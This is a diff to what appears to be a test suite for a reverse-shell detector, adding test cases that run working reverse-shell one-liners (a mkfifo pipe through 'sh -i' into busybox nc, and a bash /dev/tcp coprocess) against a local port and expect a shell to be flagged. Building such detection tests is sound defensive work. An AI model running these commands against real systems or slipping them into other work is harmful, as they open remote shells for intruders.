@@ -80,6 +80,15 @@ os.waitpid(pid, 0)`,
     found: { ...found, program: "/bash" },
   },
   {
+    name: "a fifo leads a program's answer back to the shell",
+    prepare,
+    command: () =>
+      // The peer may hang up before the shell has shown its prompt.
+      thenShow(`trap '' PIPE; mkfifo f; cat f | sh -i 2>&1 | busybox nc 127.0.0.1 ${port} >f`),
+    happened,
+    found: { ...found, program: "/dash" },
+  },
+  {
     name: "openssl encrypts what a fifo leads back to the shell",
     prepare: prepareTls,
     command: () =>
@@ -116,6 +125,16 @@ waitpid $pid, 0;`,
   const sh = require("child_process").spawn("/bin/sh", []);
   s.pipe(sh.stdin); sh.stdout.pipe(s); sh.stderr.pipe(s); s.on("error", () => {});
 });`,
+      ),
+    happened,
+    found: { ...found, program: "/dash" },
+  },
+  {
+    name: "bash copies between its own connection and a coprocess",
+    prepare,
+    command: () =>
+      thenShow(
+        `exec 3<>/dev/tcp/127.0.0.1/${port}; coproc sh -i 2>&1; cat <&\${COPROC[0]} >&3 & cat <&3 >&\${COPROC[1]}; wait %1`,
       ),
     happened,
     found: { ...found, program: "/dash" },
